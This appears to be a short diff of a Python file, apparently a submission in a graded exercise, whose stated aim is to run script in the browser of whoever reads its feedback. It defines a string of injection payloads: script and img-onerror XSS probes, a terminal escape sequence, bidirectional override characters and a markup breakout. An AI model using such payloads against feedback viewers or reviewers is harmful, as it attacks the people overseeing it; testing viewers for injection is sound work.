@@ -1,5 +1,6 @@
 # aim: run a script in the browser of whoever reads the feedback
 # task: share  points: 0
+# lines: 69
 from IPython.display import HTML, Javascript, display
 
 attack = "<script>alert(1)</script><img src=x onerror=alert(2)>\x1b]0;title\x07\u202e\u2066]]></pre>"
